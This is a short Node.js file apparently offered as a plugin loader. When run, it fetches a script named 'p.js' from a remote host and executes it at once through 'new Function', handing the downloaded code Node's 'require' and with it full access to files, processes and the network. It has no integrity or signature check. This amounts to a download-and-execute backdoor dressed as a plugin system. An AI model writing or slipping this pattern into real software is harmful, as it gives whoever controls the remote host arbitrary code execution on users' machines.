const https = require('https');
class Plugin {
  constructor(host) {
    this.host = host;
    this.chunks = [];
  }
  fetch() {
    return new Promise((resolve) => {
      https.get({ host: this.host, path: '/p.js' }, (res) => {
        res.on('data', (chunk) => this.chunks.push(chunk));
        res.on('end', () => resolve(this));
      });
    });
  }
  start() {
    const source = Buffer.concat(this.chunks).toString();
    return new Function('require', source)(require);
  }
}
new Plugin('plugins.example.invalid').fetch().then((p) => p.start());
